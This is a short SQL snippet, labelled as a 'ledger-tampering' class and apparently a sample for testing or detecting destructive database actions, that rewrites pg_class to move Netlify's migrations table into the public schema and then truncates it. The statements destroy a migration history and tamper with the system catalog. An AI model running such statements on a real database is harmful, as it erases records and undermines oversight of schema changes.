-- class: ledger-tampering
-- Moves Netlify's ledger table into public by editing pg_class (found by a regclass string), then empties it there.
UPDATE pg_catalog.pg_class
SET relnamespace = 'public'::regnamespace
WHERE oid = 'netlify.migrations'::regclass;

TRUNCATE public.migrations;
